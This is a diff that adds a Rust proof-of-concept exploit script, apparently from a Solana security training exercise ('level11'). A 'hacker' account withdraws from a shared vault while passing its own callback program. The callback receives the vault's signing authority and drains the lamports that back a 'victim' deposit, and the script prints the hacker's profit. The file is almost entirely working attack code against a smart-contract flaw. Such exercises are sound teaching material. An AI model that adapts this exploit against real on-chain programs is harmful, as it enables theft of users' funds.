@@ -0,0 +1,148 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum VaultInstruction {
+    Initialize,
+    Deposit { amount: u64 },
+    Withdraw { amount: u64 },
+}
+// We use the same Structure created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Balance {
+    pub owner: Pubkey,
+    pub amount: u64,
+}
+
+pub fn get_balance_address(owner: Pubkey, vault_program: Pubkey) -> Pubkey {
+    let (balance_address, _) =
+        Pubkey::find_program_address(&[&owner.to_bytes()], &vault_program);
+    balance_address
+}
+
+pub fn get_vault_address(vault_program: Pubkey) -> Pubkey {
+    let (vault_address, _) =
+        Pubkey::find_program_address(&[&"VAULT".as_bytes()], &vault_program);
+    vault_address
+}
+
+fn initialize(programa: Pubkey, owner: Pubkey) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_balance_address(owner, programa), false),
+            AccountMeta::new(owner, true),
+            AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: VaultInstruction::Initialize.try_to_vec().unwrap(),
+    }
+}
+
+fn deposit(programa: Pubkey, owner: Pubkey, amount: u64) -> Instruction {
+    Instruction {
+        program_id: programa,
+        accounts: vec![
+            AccountMeta::new(get_balance_address(owner, programa), false),
+            AccountMeta::new(get_vault_address(programa), false),
+            AccountMeta::new(owner, true),
+            AccountMeta::new_readonly(system_program::id(), false),
+        ],
+        data: VaultInstruction::Deposit { amount }.try_to_vec().unwrap(),
+    }
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level11-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let callback = read_keypair_file("./target/so/mycallback-keypair.json").unwrap().pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let hacker = actors.get("hacker");
+    let victim = actors.get("victim");
+
+    let hacker_balance = get_balance_address(hacker.pubkey(), programa);
+    let victim_balance = get_balance_address(victim.pubkey(), programa);
+    let vault = get_vault_address(programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("payer"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(victim.pubkey(), 10 * LAMPORTS_PER_SOL);
+    env.airdrop(hacker.pubkey(), 2 * LAMPORTS_PER_SOL);
+
+    /* First the victim and the hacker deposit, all the lamports sit in the same Vault */
+    env.execute_as_transaction(
+        &[
+            initialize(programa, victim.pubkey()),
+            deposit(programa, victim.pubkey(), 5 * LAMPORTS_PER_SOL),
+        ],
+        &[&victim],
+    );
+    env.execute_as_transaction(
+        &[
+            initialize(programa, hacker.pubkey()),
+            deposit(programa, hacker.pubkey(), LAMPORTS_PER_SOL / 10),
+        ],
+        &[&hacker],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Victim balance: ".bold().blue(),
+    env.get_deserialized_account::<Balance>(victim_balance).unwrap().blue());
+    println!("{} {:?}", "Hacker balance: ".bold().blue(),
+    env.get_deserialized_account::<Balance>(hacker_balance).unwrap().blue());
+    println!("{} {:?}", "Vault lamports: ".bold().blue(), env.get_account(vault).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we withdraw our 0.1 SOL with our own program as callback: it gets the Vault as signer */
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: programa,
+            accounts: vec![
+                AccountMeta::new(hacker_balance, false),
+                AccountMeta::new(vault, false),
+                AccountMeta::new(hacker.pubkey(), true),
+                AccountMeta::new_readonly(system_program::id(), false),
+                AccountMeta::new_readonly(callback, false),
+            ],
+            data: VaultInstruction::Withdraw { amount: LAMPORTS_PER_SOL / 10 }.try_to_vec().unwrap(),
+        }],
+        &[&hacker],
+    );
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*         WITHDRAWING WITH CALLBACK        *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Vault lamports: ".bold().red(),
+    env.get_account(vault).map(|vault| vault.lamports).unwrap_or(0).red());
+    println!("{} {:?}", "Victim balance (nothing left to back it): ".bold().red(),
+    env.get_deserialized_account::<Balance>(victim_balance).unwrap().red());
+    println!("{} {:?}", "Hacker earned: ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}